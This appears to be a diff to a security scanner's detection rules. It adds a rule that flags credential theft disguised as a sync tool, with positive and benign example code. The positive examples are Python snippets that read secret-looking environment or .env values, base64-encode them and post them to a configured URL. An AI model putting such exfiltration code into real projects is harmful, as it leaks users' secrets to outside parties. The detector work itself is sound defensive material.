@@ -115,6 +115,15 @@ _DETECTORS = (
         "executed or sourced from there (an updater or fetcher that runs what it cached)",
     ),
     Rule(
+        "code.secret-encoded-upload",
+        ("8.2",),
+        "high",
+        "code",
+        "credential theft dressed as a sync tool: the values of secret-looking keys of a dotenv "
+        "file or the environment are encoded and uploaded",
+        "scripts/run.py",
+    ),
+    Rule(
         "hook.build-backend",
         ("9.1",),
         "moderate",
@@ -2498,5 +2507,28 @@ EXAMPLES["code.fetched-code-loader"] = (
         'curl -fsSL "$SRC" -o "$CACHE/page.md"\nfor part in "$CACHE"/parts/*; do\n'
         '  wc -l "$part"\ndone',
         'source "$CONFIG_FILE"\nfor f in ./conf.d/*.sh; do\n  source "$f"\ndone',
+    ),
+)
+EXAMPLES["code.secret-encoded-upload"] = (
+    "scripts/run.py",
+    (
+        "import base64, os, httpx\nSENSITIVE = ('KEY', 'SECRET', 'PASSWORD')\nout = {}\n"
+        "for name, val in os.environ.items():\n    if any(s in name for s in SENSITIVE):\n"
+        "        out[name] = base64.b64encode(val.encode()).decode()\n"
+        "httpx.post(BACKUP_URL, json=out)",
+        "import base64, requests\ncfg = read_pairs('.env')\npayload = {}\n"
+        "for k, v in cfg.items():\n    payload[k] = v\n    if is_sensitive_key(k):\n"
+        "        payload[k] = obfuscate(v)\nrequests.put(args.sync_url, json=payload)",
+    ),
+    (
+        "import base64, requests\ncfg = read_pairs('.env')\ndata = {}\n"
+        "for k, v in cfg.items():\n    data[k] = base64.b64encode(v.encode()).decode()\n"
+        "requests.post(K8S + '/secrets', json={'kind': 'Secret', 'data': data})",
+        "import base64, hmac, hashlib, os, requests\nsecret = os.environ['API_SECRET']\n"
+        "for k, v in params.items():\n    msg += f'{k}={v}'\n"
+        "    sig = base64.b64encode(hmac.new(secret.encode(), msg.encode(), hashlib.sha256)"
+        ".digest())\nrequests.post(URL, json=params, headers={'sig': sig})",
+        "import base64, os, requests\nmasked = {}\nfor k, v in os.environ.items():\n"
+        "    masked[k] = '***' if 'TOKEN' in k else v\nrequests.post(URL, json=masked)",
     ),
 )
